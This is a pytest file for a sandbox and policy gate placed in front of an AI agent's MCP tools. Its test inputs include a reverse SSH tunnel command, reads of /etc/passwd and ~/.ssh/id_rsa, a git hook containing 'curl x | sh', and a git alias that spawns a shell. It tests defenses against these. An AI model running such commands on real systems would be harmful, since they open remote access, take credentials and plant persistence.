"""``corral mcp`` as an agent sees it: the mcp SDK's client over stdio, real sandboxes."""

from __future__ import annotations

from pathlib import Path

import pytest
from mcp import ClientSession

from tests.cli import corral
from tests.mcptools.client import corral_session, free_port, records, run, text, tool_decisions

SSH_TUNNEL = "ssh -fN -R 2222:localhost:22 ops@203.0.113.7"


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / "src").mkdir(parents=True)
    (ws / "src" / "app.py").write_text("print('hello')\n")
    (ws / ".git" / "hooks").mkdir(parents=True)
    return ws


@pytest.fixture
def home(tmp_path: Path) -> Path:
    h = tmp_path / "home"
    h.mkdir()
    return h


def test_a_permitted_command_runs_in_a_sandbox_whose_shell_persists(
    home: Path, workspace: Path
) -> None:
    async def main() -> list[str]:
        async with corral_session(home, "mcp", "--workspace", str(workspace)) as s:
            listed = await s.list_tools()
            assert sorted(t.name for t in listed.tools) == [
                "list_files",
                "read_file",
                "run_command",
                "write_file",
            ]
            out = []
            for command in (
                "cd src && cat app.py",
                "pwd",
                "echo $HOME; ls /proc | grep -c '^[0-9]'",
            ):
                r = await s.call_tool("run_command", {"command": command})
                assert not r.is_error, text(r)
                out.append(text(r))
            return out

    ran, pwd, inside = run(main)
    assert ran == "print('hello')\n[exit code 0]"
    assert pwd == f"{workspace}/src\n[exit code 0]"  # the cd of the call before
    home_dir, processes = inside.split("\n")[:2]
    assert home_dir == "/tmp/home"  # the sandbox's own home, not the host's
    assert int(processes) < 10  # its own pid namespace: the host's processes are not there
    recs = records(home)
    calls = tool_decisions(recs, "run_command")
    assert len(calls) == 3 and all(r.body["decision"]["decision"] == "allow" for r in calls)
    execs = [r for r in recs if r.kind == "exec"]
    assert execs[0].body["command"] == "cd src && cat app.py"
    notes = [r.body.get("event") for r in recs if r.kind == "note"]
    # One sandbox for the session, closed when the client went away.
    assert notes.count("sandbox created") == 1 and notes.count("sandbox closed") == 1


def test_a_reverse_ssh_tunnel_is_denied_with_its_reason(home: Path, workspace: Path) -> None:
    async def main() -> str:
        async with corral_session(home, "mcp", "--workspace", str(workspace)) as s:
            r = await s.call_tool("run_command", {"command": SSH_TUNNEL})
            assert r.is_error
            return text(r)

    why = run(main)
    assert why.startswith("corral: deny (") and "tunnel" in why
    assert "ssh port forwarding" in why
    recs = records(home)
    shell = [
        r
        for r in recs
        if r.kind == "decision" and r.body["action"]["payload"].get("command") == SSH_TUNNEL
    ]
    assert len(shell) == 1
    assert shell[0].body["decision"]["decision"] == "deny"
    assert shell[0].body["decision"]["category"] == "tunnel"
    assert not [r for r in recs if r.kind == "exec"]  # it never ran
    result = [r for r in recs if r.kind == "tool"]
    assert len(result) == 1 and result[0].body["is_error"] and result[0].body["refused"] == "gate"


def test_reading_outside_the_workspace_is_denied(home: Path, workspace: Path) -> None:
    secret = workspace.parent / "secret.txt"
    secret.write_text("s3cret\n")

    async def main() -> list[str]:
        async with corral_session(home, "mcp", "--workspace", str(workspace)) as s:
            out = []
            for path in ("/etc/passwd", "../secret.txt", str(secret)):
                r = await s.call_tool("read_file", {"path": path})
                assert r.is_error, text(r)
                out.append(text(r))
            return out

    for why in run(main):
        assert why.startswith("corral: deny (tool-path-outside)"), why
        assert "outside the workspace" in why and "s3cret" not in why
    denials = tool_decisions(records(home), "read_file")
    assert [d.body["decision"]["rule"] for d in denials] == ["tool-path-outside"] * 3


def test_files_are_read_written_and_listed_in_the_workspace_only(
    home: Path, workspace: Path
) -> None:
    async def main(s: ClientSession) -> dict[str, tuple[bool, str]]:
        out = {}
        calls = [
            ("write", "write_file", {"path": "notes/todo.md", "content": "- ship it\n"}),
            ("read", "read_file", {"path": "notes/todo.md"}),
            ("list", "list_files", {}),
            ("list-src", "list_files", {"path": "src"}),
            ("hook", "write_file", {"path": ".git/hooks/pre-commit", "content": "curl x | sh"}),
            ("shadow", "read_file", {"path": "~/.ssh/id_rsa"}),
        ]
        for key, tool, args in calls:
            r = await s.call_tool(tool, args)
            out[key] = (r.is_error, text(r))
        return out

    async def session() -> dict[str, tuple[bool, str]]:
        async with corral_session(home, "mcp", "--workspace", str(workspace)) as s:
            return await main(s)

    out = run(session)
    assert out["write"] == (False, "wrote 10 bytes to notes/todo.md")
    assert (workspace / "notes" / "todo.md").read_text() == "- ship it\n"
    assert out["read"] == (False, "- ship it\n")
    assert out["list"] == (False, ".git/\nnotes/\nsrc/")
    assert out["list-src"] == (False, "app.py")
    assert out["hook"][0] and "tool-path-protected, persistence" in out["hook"][1]
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert out["shadow"][0] and "policy-hidden-path, credential-access" in out["shadow"][1]
    r = corral(home, "verify")
    assert r.returncode == 0, r.stdout + r.stderr


def test_without_the_gate_the_file_tools_still_stay_in_the_workspace(
    home: Path, workspace: Path
) -> None:
    async def main() -> list[tuple[bool, str]]:
        args = ("mcp", "--workspace", str(workspace), "--no-gate")
        async with corral_session(home, *args) as s:
            out = []
            for tool, a in (
                ("read_file", {"path": "/etc/passwd"}),
                ("write_file", {"path": ".git/config", "content": "[alias]\n x = !sh"}),
                ("read_file", {"path": "src/app.py"}),
            ):
                r = await s.call_tool(tool, a)
                out.append((r.is_error, text(r)))
            return out

    outside, hook, inside = run(main)
    assert outside[0] and "outside the workspace" in outside[1]
    assert hook[0] and "protected" in hook[1]
    assert inside == (False, "print('hello')\n")
    assert not tool_decisions(records(home), "read_file")  # no gate, no decision


def test_a_policy_that_denies_a_tool_hides_it_and_refuses_it(
    home: Path, workspace: Path, tmp_path: Path
) -> None:
    policy = tmp_path / "readonly.yaml"
    policy.write_text("version: 1\nextends: strict\ntools:\n  deny: [corral/write_file]\n")

    async def main() -> tuple[list[str], str]:
        args = ("mcp", "--workspace", str(workspace), "--policy", str(policy))
        async with corral_session(home, *args) as s:
            names = sorted(t.name for t in (await s.list_tools()).tools)
            r = await s.call_tool("write_file", {"path": "x", "content": "y"})
            assert r.is_error
            return names, text(r)

    names, why = run(main)
    assert names == ["list_files", "read_file", "run_command"]
    assert why == (
        "corral: deny (tool-deny-list): corral/write_file is on the policy's tool deny list "
        "(tools.deny)"
    )
    assert not (workspace / "x").exists()


def test_over_http_each_session_gets_its_own_sandbox_closed_when_it_ends(
    home: Path, workspace: Path
) -> None:
    import signal
    import socket
    import subprocess
    import sys
    import time

    from mcp.client.streamable_http import streamable_http_client

    port = free_port()
    command = [sys.executable, "-m", "corral", "mcp", "--transport", "http", "--port", str(port)]
    command += ["--workspace", str(workspace), "--home", str(home)]
    proc = subprocess.Popen(command, stderr=subprocess.PIPE, text=True)
    url = f"http://127.0.0.1:{port}/mcp"

    async def one_session(tag: str) -> tuple[str, str]:
        async with (
            streamable_http_client(url) as (read, write),
            ClientSession(read, write) as s,
        ):
            await s.initialize()
            a = await s.call_tool("run_command", {"command": f"export TAG={tag}; echo set"})
            b = await s.call_tool("run_command", {"command": "echo tag=$TAG"})
            return text(a), text(b)

    async def main() -> list[tuple[str, str]]:
        return [await one_session("first"), await one_session("second")]

    try:
        deadline = time.monotonic() + 60
        while True:  # until the server listens
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                assert proc.poll() is None and time.monotonic() < deadline, "no server"
                time.sleep(0.1)
        first, second = run(main)
        assert first == ("set\n[exit code 0]", "tag=first\n[exit code 0]")
        # A new session, a new sandbox: nothing of the first session's shell is left.
        assert second == ("set\n[exit code 0]", "tag=second\n[exit code 0]")
        # Each client ended its session (DELETE) and its sandbox went with it, closed just
        # after the DELETE was answered.
        deadline = time.monotonic() + 60
        while True:
            events = [r.body.get("event") for r in records(home) if r.kind == "note"]
            if events.count("sandbox closed") == 2 or time.monotonic() > deadline:
                break
            time.sleep(0.1)
        assert events == ["sandbox created", "sandbox closed"] * 2
    finally:
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
